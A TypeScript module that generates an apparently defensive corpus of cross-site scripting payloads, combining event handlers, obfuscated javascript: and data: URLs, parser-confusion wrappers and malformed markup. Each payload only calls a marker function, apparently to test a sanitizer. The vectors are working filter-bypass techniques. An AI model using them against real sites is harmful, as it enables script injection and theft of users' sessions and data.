/** A text that calls `window.__ran(name)` if it runs, some only on a click. */
export interface Payload {
  name: string;
  html: string;
}

/** Wraps a call in HTML. */
type Vector = (call: string) => string;
type Parts = Readonly<Record<string, Vector>>;

/** Elements with an event attribute; the payload is inserted after its equals sign. */
const EVENTS: Parts = {
  'image-error': (rest) => `<img src="/nothing" onerror${rest}>`,
  'image-load': (rest) => `<IMG SRC="/covers/seo.svg" oNlOaD${rest}>`,
  'slash-between': (rest) => `<img/src="/nothing"/onerror${rest}>`,
  'drawing-load': (rest) => `<svg onload${rest}>`,
  'paragraph-click': (rest) => `<p onclick${rest}>Click</p>`,
  'link-hover': (rest) => `<a href="/contact" onmouseover${rest}>Hover</a>`,
  'field-focus': (rest) => `<input autofocus onfocus${rest}>`,
  'cell-enter': (rest) => `<table><tr><td onpointerenter${rest}>Cell</td></tr></table>`,
  'details-toggle': (rest) => `<details open ontoggle${rest}>More</details>`,
  'body-load': (rest) => `<body onload${rest}>`,
  'video-error': (rest) => `<video><source onerror${rest}></video>`,
  'frame-load': (rest) => `<iframe src="about:blank" onload${rest}></iframe>`,
};

const URL_CARRIERS: Parts = {
  link: (address) => `<a href="${address}">Click</a>`,
  frame: (address) => `<iframe src="${address}"></iframe>`,
  form: (address) => `<form action="${address}"><button>Click</button></form>`,
  button: (address) => `<form><button formaction="${address}">Click</button></form>`,
  object: (address) => `<object data="${address}"></object>`,
  embed: (address) => `<embed src="${address}">`,
  image: (address) => `<img src="${address}" alt="">`,
  area: (address) => `<map name="m"><area shape="default" href="${address}"></map>`,
  'svg-link': (address) => `<svg><a xlink:href="${address}"><text y="9">Click</text></a></svg>`,
  'math-link': (address) => `<math href="${address}"><mtext>Click</mtext></math>`,
};

/** Script addresses that browsers accept. */
const SPELLINGS: Parts = {
  plain: (call) => `javascript:${call}`,
  'upper-case': (call) => `JaVaScRiPt:${call}`,
  'leading-space': (call) => `  javascript:${call}`,
  'leading-control': (call) => `\u0001javascript:${call}`,
  tab: (call) => `java\tscript:${call}`,
  'encoded-tab': (call) => `java&#9;script:${call}`,
  'encoded-newline': (call) => `java&#x0A;script&NewLine;:${call}`,
  'encoded-colon': (call) => `javascript&colon;${call}`,
  'encoded-letters': (call) => `&#106;&#x61;vascript:${call}`,
  'long-zeros': (call) => `&#0000106avascript:${call}`,
  comment: (call) => `javascript:/*--></title></style>*/${call}`,
  newline: (call) => `javascript://example.com/%0A${call}`,
  vbscript: (call) => `vbscript:${call}`,
  'data-html': (call) => `data:text/html,<script>${call}</script>`,
  'data-drawing': (call) =>
    `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${call}'/%3E`,
  view: (call) => `view-source:javascript:${call}`,
};

/** Contexts in which parsers disagree on the end of a text. */
const WRAPPERS: Parts = {
  nothing: (html) => html,
  noscript: (html) => `<noscript><p title="</noscript>${html}"></noscript>`,
  template: (html) => `<template>${html}</template>`,
  style: (html) => `<style><a title="</style>${html}"></style>`,
  title: (html) => `<title><a title="</title>${html}"></title>`,
  textarea: (html) => `<textarea><a title="</textarea>${html}"></textarea>`,
  xmp: (html) => `<xmp><a title="</xmp>${html}"></xmp>`,
  noembed: (html) => `<noembed><a title="</noembed>${html}"></noembed>`,
  noframes: (html) => `<noframes><a title="</noframes>${html}"></noframes>`,
  iframe: (html) => `<iframe><a title="</iframe>${html}"></iframe>`,
  'svg-style': (html) => `<svg><style><a title="</style>${html}"></style></svg>`,
  'svg-foreign': (html) => `<svg><foreignObject><p>${html}</p></foreignObject></svg>`,
  'svg-desc': (html) => `<svg><desc><table><tr><td>${html}</td></tr></table></desc></svg>`,
  'svg-p': (html) => `<svg></p><style><a id="</style>${html}">`,
  'math-mtext': (html) =>
    `<math><mtext><table><mglyph><style><!--</style><a title="--&gt;${html}"></table></mtext></math>`,
  'math-annotation': (html) => `<math><annotation-xml encoding="text/html">${html}</annotation-xml></math>`,
  select: (html) => `<select><option>${html}</option></select>`,
  'select-style': (html) => `<select><style></select>${html}</style>`,
  comment: (html) => `<!--><p>-->${html}`,
  'comment-dash': (html) => `<!--->${html}-->`,
  'comment-bang': (html) => `<!-- --!>${html}-->`,
  cdata: (html) => `<![CDATA[><p>]]>${html}`,
  'cdata-svg': (html) => `<svg><![CDATA[</svg>${html}]]></svg>`,
  instruction: (html) => `<?xml version="1.0" ?>${html}`,
  'open-tag': (html) => `<p <${html.slice(1)}`,
  'open-attribute': (html) => `<p title='${html}`,
  'nested-form': (html) => `<form><math><mtext></form><form><mglyph><style></math>${html}`,
  'table-text': (html) => `<table>${html}<tr><td>Cell</table>`,
  'many-blocks': (html) => `${'<blockquote>'.repeat(520)}${html}`,
  plaintext: (html) => `${html}<plaintext>`,
};

/** Unusual markup. */
const MARKUP: Parts = {
  'null-in-name': (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  'null-in-event': (call) => `<img src=x on\u0000error="${call}">`,
  'doubled-script': (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  'doubled-image': (call) => `<im<img>g src=x onerror="${call}">`,
  'form-feed': (call) => `<img\u000Csrc=x\u000Conerror="${call}">`,
  'vertical-tab': (call) => `<img\u000Bsrc=x onerror="${call}">`,
  'no-space': (call) => `<img src="x"onerror="${call}">`,
  backtick: (call) => `<img alt=\`" onerror="${call}"\` src=x>`,
  unclosed: (call) => `<img src=x onerror="${call}"`,
  'unclosed-script': (call) => `<script>${call}//`,
  'script-end-space': (call) => `<script>${call}</script foo="bar" >`,
  'script-slash': (call) => `<script/x>${call}</script>`,
  'upper-script': (call) => `<SCRIPT>${call}</SCRIPT>`,
  'encoded-once': (call) => `&lt;img src=x onerror=${call}&gt;`,
  'encoded-twice': (call) => `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  'encoded-no-semicolon': (call) => `&ltimg src=x onerror=${call}&gt`,
  'encoded-attribute': (call) => `<p title="&quot;&gt;&lt;img src=x onerror=${call}&gt;">Text</p>`,
  percent: (call) => `%3Cimg%20src=x%20onerror=${call}%3E`,
  'full-width': (call) => `\uFF1Cimg src=x onerror=${call}\uFF1E`,
  'utf-7': (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  'right-to-left': (call) => `\u202E<img src=x onerror="${call}">`,
  'zero-width': (call) => `<img src=x on\u200Berror="${call}" onerror="${call}">`,
  'lone-surrogate': (call) => `\uD800<img src=x onerror="${call}">`,
  'end-tag-attributes': (call) => `<p>Text</p onclick="${call}"><br onclick="${call}">`,
  'custom-element': (call) => `<x-y onfocus="${call}" tabindex="1" autofocus>Text</x-y>`,
  'prefixed-name': (call) => `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${call}</svg:script>`,
};

/** Styles that run code, or did in some browser. */
const STYLES: Parts = {
  expression: (call) => `<p style="width:expression(${call})">Text</p>`,
  'background-url': (call) => `<p style="background:url(javascript:${call})">Text</p>`,
  binding: (call) => `<p style="-moz-binding:url('data:text/xml,${call}')">Text</p>`,
  behavior: (call) => `<p style="behavior:url(#${call})">Text</p>`,
  import: (call) => `<style>@import 'javascript:${call}';</style>`,
  animation: (call) =>
    `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${call}">Text</p>`,
  transition: (call) =>
    `<p id="t" tabindex="1" style="transition:outline 1s" ontransitionend="${call}">Text</p>`,
  sheet: (call) => `<link rel="stylesheet" href="javascript:${call}">`,
};

/** Other vectors. */
const OTHERS: Parts = {
  srcset: (call) => `<img srcset="javascript:${call} 2x" src="/nothing" onerror="${call}">`,
  'picture-source': (call) => `<picture><source srcset="x" onerror="${call}"><img src="/nothing"></picture>`,
  refresh: (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  'refresh-data': (call) =>
    `<meta http-equiv="refresh" content="0; URL='data:text/html,<script>${call}</script>'">`,
  base: (call) => `<base href="javascript:/a/-${call}//"><a href="#">Click</a>`,
  srcdoc: (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  'srcdoc-encoded': (call) => `<iframe srcdoc="&lt;img src&equals;x onerror&equals;${call}&gt;"></iframe>`,
  'svg-animate': (call) =>
    `<svg><a><animate attributeName="href" values="javascript:${call}"/><text y="9">Click</text></a></svg>`,
  'svg-set': (call) => `<svg><set attributeName="onmouseover" to="${call}"/></svg>`,
  'svg-begin': (call) => `<svg><animate onbegin="${call}" attributeName="x" dur="1s"/></svg>`,
  'svg-script': (call) => `<svg><script>${call}</script></svg>`,
  'svg-script-href': (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  'svg-use': (call) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${call}'/>#x"/></svg>`,
  'math-action': (call) =>
    `<math><maction actiontype="statusline" href="javascript:${call}">x</maction></math>`,
  module: (call) => `<script type="module">${call}</script>`,
  'script-source': (call) => `<script src="data:text/javascript,${call}"></script>`,
  preload: (call) => `<link rel="preload" as="script" href="x" onerror="${call}">`,
  'code-class': (call) => `<pre><code class="language-x&quot; onclick=&quot;${call}">Text</code></pre>`,
  'alt-breakout': (call) => `<img src="/nothing" alt="&quot; onerror=&quot;${call}">`,
  'alt-tag': (call) => `<img src="/nothing" alt="--></style></script><img src=x onerror=${call}>">`,
  'title-breakout': (call) => `<a href="/" title='" onmouseover="${call}'>Hover</a>`,
  'href-breakout': (call) => `<a href='/"onmouseover="${call}'>Hover</a>`,
  'src-breakout': (call) => `<img src='/"onerror="${call}'>`,
  'size-breakout': (call) => `<img src="/covers/seo.svg" width='1"onload="${call}'>`,
  'start-breakout': (call) => `<ol start='1"onclick="${call}'><li>Item</li></ol>`,
  'span-breakout': (call) => `<table><tr><td colspan='2"onclick="${call}'>Cell</td></tr></table>`,
  popover: (call) =>
    `<button popovertarget="x">Click</button><p popover id="x" onbeforetoggle="${call}">x</p>`,
  'hidden-until-found': (call) => `<p hidden="until-found" onbeforematch="${call}">Text</p>`,
  editable: (call) => `<p contenteditable onpaste="${call}" onblur="${call}">Text</p>`,
  marquee: (call) => `<marquee onstart="${call}">Text</marquee>`,
  applet: (call) => `<applet code="x" onerror="${call}"></applet>`,
  'object-fallback': (call) =>
    `<object data="/nothing" onerror="${call}"><img src=x onerror="${call}"></object>`,
  'shadow-template': (call) =>
    `<div><template shadowrootmode="open"><img src=x onerror="${call}"></template></div>`,
  isindex: (call) => `<isindex action="javascript:${call}" type="image">`,
  'same-attribute-twice': (call) => `<a href="/contact" href="javascript:${call}">Click</a>`,
};

/** A call without quotes, spaces or angle brackets, so that it fits everywhere; `top`, because some run in frames. */
const callOf = (name: string): string => `top.__ran(/${name}/.source)`;

const payload = (name: string, vector: Vector): Payload => ({ name, html: vector(callOf(name)) });

/** Every combination of two sets of parts. */
function crossed(kind: string, outer: Parts, inner: Parts): Payload[] {
  return Object.entries(outer).flatMap(([context, around]) =>
    Object.entries(inner).map(([what, vector]) =>
      payload(`${kind}-${context}-${what}`, (call) => around(vector(call))),
    ),
  );
}

const alone = (kind: string, parts: Parts): Payload[] =>
  Object.entries(parts).map(([what, vector]) => payload(`${kind}-${what}`, vector));

/** Three payloads that run without interaction, for nesting. */
const SELF_STARTING: Parts = {
  image: (call) => `<img alt="" src="/nothing" onerror="${call}">`,
  drawing: (call) => `<svg onload="${call}"></svg>`,
  script: (call) => `<script>${call}</script>`,
};

/** Known script-injection payloads, combined with each other. */
export const payloads: readonly Payload[] = [
  ...crossed('event', EVENTS, {
    double: (call) => `="${call}"`,
    single: (call) => `='${call}'`,
    bare: (call) => `=${call}`,
    spaced: (call) => `\n=\t"${call}"`,
    encoded: (call) => `="${call.replace(/./g, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`)}"`,
  }),
  ...crossed('address', URL_CARRIERS, SPELLINGS),
  ...crossed('within', WRAPPERS, SELF_STARTING),
  ...alone('markup', MARKUP),
  ...alone('style', STYLES),
  ...alone('other', OTHERS),
];
